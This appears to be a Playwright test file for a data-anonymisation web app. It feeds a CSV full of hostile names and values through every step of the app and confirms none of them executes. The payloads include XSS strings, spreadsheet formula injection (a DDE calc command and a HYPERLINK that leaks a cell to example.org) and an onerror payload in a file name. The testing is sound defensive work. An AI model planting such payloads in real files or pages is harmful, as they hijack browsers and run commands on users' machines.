"""Tables that are meant to do harm are shown as what they are: text."""

import csv
import random

import pytest
from app_pages import STEPS, go_to, make_release, open_file, set_role
from playwright.sync_api import expect

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,  # test_attacks.py looks at what is served
]

HACK = "window.__hacked = 1"
NAMES = [
    f"<script>{HACK}</script>",
    f"<img src=x onerror='{HACK}'>",
    f'"><svg onload="{HACK}"><b>',
    '=HYPERLINK("https://example.org/?"&A1)',
    "الاسم",
    "👩🏽‍⚕️ age",
    "n" * 300,
    "a{n}b",
    "turned \u202eround \u2069",
    "__proto__",
    "constructor",
]
VALUES = [
    f"<script>{HACK}</script>",
    f"<img src=//example.org/x onerror={HACK}>",
    f"<svg><script>{HACK}</script></svg>",
    "=cmd|' /C calc'!A0",
    "שלום‮abc",
    "👨‍👩‍👧‍👦",
    "v" * 500,
    "constructor",
    "<style>*{display:none}</style>",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    draw = random.Random(0)
    file = tmp_path_factory.mktemp("hostile") / "<img src=x onerror=alert(1)>.csv"
    with open(file, "w", newline="") as opened:
        write = csv.writer(opened).writerow
        write([*NAMES, "years", "ill"])
        for _ in range(120):
            words = [
                draw.choice(VALUES[:4] if j % 2 else VALUES) for j in range(len(NAMES))
            ]
            write([*words, draw.randint(20, 70), draw.choice(["<b>no</b>", "yes"])])
    return file


def spelt(name):
    """A name as the page shows it: what would turn a line round is spelt out."""
    return name.replace("\u202e", "\\u202e")


def test_hostile_names_and_values_are_text_on_every_step(visit, hostile):
    visitor = visit()
    page = visitor.tab()
    open_file(page, hostile)
    preview = page.get_by_role("region", name="The first 20 records")
    for text in (*NAMES, VALUES[1]):
        expect(preview.get_by_text(spelt(text), exact=True).first).to_be_attached()
    go_to(page, "Columns")
    set_role(page, "ill", "Confidential")
    for name in (*NAMES[:3], *NAMES[-2:], "years"):
        set_role(page, name, "Quasi-identifier")
    for name in NAMES[3:-2]:
        set_role(page, spelt(name), "Left out")
    expect(page.get_by_text("13 columns: 6 masked, 1 confidential")).to_be_visible()
    go_to(page, "Protect")
    for group in page.get_by_role("main").locator("details > summary").all():
        group.click()
    go_to(page, "Compare")
    go_to(page, "Release")
    make_release(page)
    page.locator("iframe").scroll_into_view_if_needed()
    report = page.frame_locator("iframe")
    expect(report.get_by_text(NAMES[0]).first).to_be_attached()
    page.get_by_role("link", name="History").click()
    page.get_by_role("heading", level=1, name="Releases").wait_for()
    for step in STEPS:
        page.get_by_role("link", name=hostile.name, exact=True).click()
        go_to(page, step)
        assert "\u202e" not in page.locator("body").inner_text()
    assert page.evaluate("window.__hacked") is None
    for frame in page.frames[1:]:
        assert frame.locator("script").count() == 0
    assert all("example.org" not in url for url in visitor.asked)


def test_three_hundred_columns_stay_usable(visit, tmp_path):
    draw = random.Random(1)
    file = tmp_path / "wide.csv"
    with open(file, "w", newline="") as opened:
        write = csv.writer(opened).writerow
        write([f"question {j}" for j in range(300)])
        for _ in range(60):
            write([draw.randint(0, 9) for _ in range(300)])
    page = visit().tab()
    open_file(page, file)
    page.get_by_role("button", name="Show all 300 columns").click()
    go_to(page, "Columns")
    page.get_by_role("searchbox", name="Find a column").fill("question 29")
    expect(page.get_by_text("11 of 300 columns")).to_be_visible()
    page.get_by_role("checkbox", name="Select all").check()
    several = page.get_by_role("group", name="Role of the selected columns")
    several.get_by_role("button", name="Identifier", exact=True).click()
    card = page.get_by_role("group", name="question 299", exact=True)
    expect(card.get_by_role("radio", name="Identifier", exact=True)).to_be_checked()
    several.get_by_role("button", name="Select none").click()
    page.get_by_role("searchbox", name="Find a column").fill("")
    for name in ("question 1", "question 2"):
        set_role(page, name, "Quasi-identifier")
    for step in STEPS[2:]:
        go_to(page, step)
    inner, needed = page.evaluate("[innerWidth, document.scrollingElement.scrollWidth]")
    assert needed <= inner
